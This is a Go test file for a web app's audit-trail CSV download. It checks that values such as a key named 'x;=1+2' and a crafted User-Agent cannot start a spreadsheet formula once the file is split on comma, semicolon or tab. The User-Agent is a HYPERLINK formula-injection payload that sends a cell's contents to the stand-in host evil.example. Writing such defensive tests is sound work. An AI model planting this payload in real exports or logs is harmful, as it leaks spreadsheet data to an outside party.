package web_test

import (
	"encoding/csv"
	"net/http"
	"net/url"
	"slices"
	"strings"
	"testing"

	"keydesk/models/audit"

	"keydesk/models/modeltest"
)

// TestAuditTrailCSVHasNoFormulaAfterSemicolon (issue 11, item 6): a key
// named "x;=1+2" and a failed sign-in with a crafted User-Agent reach the
// download through the real routes; a spreadsheet that splits the file on
// ",", ";" or a tab must not find a cell starting a formula.
func TestAuditTrailCSVHasNoFormulaAfterSemicolon(t *testing.T) {
	modeltest.Each(t, func(t *testing.T, db modeltest.Database) {
		ts := newTestServer(t, db)
		const keyName = "x;=1+2"
		const userAgent = `a;=HYPERLINK("http://evil.example/?d="&A1,"Click")`

		full := ts.loggedIn(t, ts.Demo.Full.Email)
		if resp, body := generate(t, full, keyName); resp.StatusCode != http.StatusOK {
			t.Fatalf("generate %q: %d %s", keyName, resp.StatusCode, body)
		}
		attacker := ts.newClient(t)
		form := url.Values{"email": {ts.Demo.Full.Email}, "password": {"wrong password!"}, "_csrf": {attacker.csrf()}}
		if resp, _ := attacker.do(http.MethodPost, "/login", form, map[string]string{"User-Agent": userAgent}); resp.StatusCode != http.StatusUnauthorized {
			t.Fatalf("failed sign-in: %d", resp.StatusCode)
		}

		support := ts.loggedIn(t, ts.Demo.Support.Email)
		resp, body := support.get(auditTrailURL + "/download?period=all")
		if resp.StatusCode != http.StatusOK {
			t.Fatalf("download: %d", resp.StatusCode)
		}
		// Both hostile values are in the file, as text.
		records, err := csv.NewReader(strings.NewReader(body)).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		col := func(name string) int { return slices.Index(audit.CSVHeader, name) }
		var sawKey, sawAgent bool
		for _, rec := range records[1:] {
			if rec[col("action")] == audit.ActionKeyGenerated && strings.Contains(rec[col("target_name")], "=1+2") {
				sawKey = true
			}
			if rec[col("action")] == audit.ActionSignInFailed && strings.Contains(rec[col("user_agent")], "HYPERLINK") {
				sawAgent = true
			}
		}
		if !sawKey || !sawAgent {
			t.Fatalf("the hostile key name (%v) or user agent (%v) is missing from the download", sawKey, sawAgent)
		}
		// Read the raw file as a spreadsheet splitting on each separator
		// would (quotes stripped from the piece's start).
		for _, sep := range []string{",", ";", "\t"} {
			for _, line := range strings.Split(body, "\r\n") {
				for _, piece := range strings.Split(line, sep) {
					piece = strings.TrimLeft(piece, `"`)
					if piece != "" && strings.ContainsRune("=+-@", rune(piece[0])) {
						t.Errorf("split on %q, the cell %q starts a formula (line %q)", sep, piece, line)
					}
				}
			}
		}
	})
}
